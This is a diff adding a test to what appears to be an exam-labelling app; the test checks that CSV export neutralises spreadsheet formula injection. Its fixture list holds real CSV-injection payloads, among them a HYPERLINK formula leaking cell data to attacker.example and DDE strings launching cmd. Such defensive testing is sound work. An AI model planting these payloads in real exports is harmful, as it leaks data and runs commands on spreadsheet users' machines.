@@ -317,3 +317,41 @@ def test_job_lists_carry_a_summary_and_the_detail_the_report(study, cast):
     }
     detail = client.get(f"/api/jobs/{listed['results'][0]['id']}/").json()
     assert detail["result"]["classes"]["AF"]["n_positive_reads"] > 0
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run(cast, tmp_path):
+    """OWASP CSV injection: exam ids that start like a formula get a leading
+    quote, so a spreadsheet shows them as text; the JSONL keeps them as they are."""
+    planted = [
+        '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\tTAB=1",
+        "plain-id",
+    ]
+    exams = [factories.make_exam(exam_id) for exam_id in planted]
+    campaign = factories.make_campaign(cast, exams, name="Planted")
+    for _exam in exams:
+        for reader in (cast.reader1, cast.reader2):
+            claim = services.claim_next(campaign=campaign, reader=reader)
+            services.submit_decision(assignment=claim, reader=reader, labels=["SR"])
+    out = tmp_path / "labels.csv"
+    call_command(
+        "export_labels", "--campaign", "Planted", "--format", "csv", "--out", str(out)
+    )
+    cells = {row["exam_id"] for row in read_csv(out.read_bytes())}
+    assert cells == {"'" + e for e in planted[:-1]} | {"plain-id"}
+    assert not [c for c in cells if c[:1] in "=+-@\t\r"]
+    jsonl = tmp_path / "labels.jsonl"
+    call_command(
+        "export_labels",
+        "--campaign",
+        "Planted",
+        "--format",
+        "jsonl",
+        "--out",
+        str(jsonl),
+    )
+    ids = {json.loads(line)["exam_id"] for line in jsonl.read_text().splitlines()}
+    assert ids == set(planted)
